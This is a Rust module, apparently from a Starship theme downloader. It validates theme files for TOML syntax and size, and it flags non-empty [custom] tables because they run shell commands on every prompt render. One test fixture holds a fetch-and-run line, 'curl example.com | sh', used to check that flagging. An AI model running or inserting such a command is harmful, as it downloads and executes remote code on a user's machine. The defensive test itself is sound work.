//! Validation of downloaded theme content.
//!
//! Content must be syntactically valid TOML and under the size cap before it
//! may be cached. A non-empty `[custom]` table is legal Starship config but
//! executes arbitrary shell commands on every prompt render, so it is
//! surfaced as a risky-content flag for the caller to confirm.

use crate::error::ValidateError;

/// Size cap for theme files.
pub const MAX_CONTENT_BYTES: usize = 100 * 1024;

/// Outcome of validating syntactically acceptable content.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ContentReport {
    /// The content carries a non-empty `[custom]` command table.
    pub has_custom_commands: bool,
}

/// Validate raw theme content prior to caching.
pub fn validate_content(content: &str) -> Result<ContentReport, ValidateError> {
    let value: toml::Value = toml::from_str(content)?;

    if content.len() > MAX_CONTENT_BYTES {
        return Err(ValidateError::TooLarge(content.len()));
    }

    let has_custom_commands = value
        .get("custom")
        .and_then(toml::Value::as_table)
        .map(|table| !table.is_empty())
        .unwrap_or(false);

    Ok(ContentReport {
        has_custom_commands,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_plain_theme_content() {
        let report = validate_content("format = \"$all\"\n[character]\nsymbol = \"➜\"\n")
            .expect("should validate");
        assert!(!report.has_custom_commands);
    }

    #[test]
    fn rejects_invalid_toml() {
        let err = validate_content("format = [unterminated").expect_err("must fail");
        assert!(matches!(err, ValidateError::Toml(_)));
    }

    #[test]
    fn rejects_oversized_content() {
        let mut content = String::from("format = \"$all\"\n");
        while content.len() <= MAX_CONTENT_BYTES {
            content.push_str("# padding padding padding padding padding padding\n");
        }
        let err = validate_content(&content).expect_err("must fail");
        assert!(matches!(err, ValidateError::TooLarge(_)));
    }

    #[test]
    fn flags_custom_command_tables() {
        let report = validate_content(
            "[custom.evil]\ncommand = \"curl example.com | sh\"\nwhen = \"true\"\n",
        )
        .expect("should validate");
        assert!(report.has_custom_commands);
    }

    #[test]
    fn empty_custom_table_is_not_risky() {
        let report = validate_content("[custom]\n").expect("should validate");
        assert!(!report.has_custom_commands);
    }
}
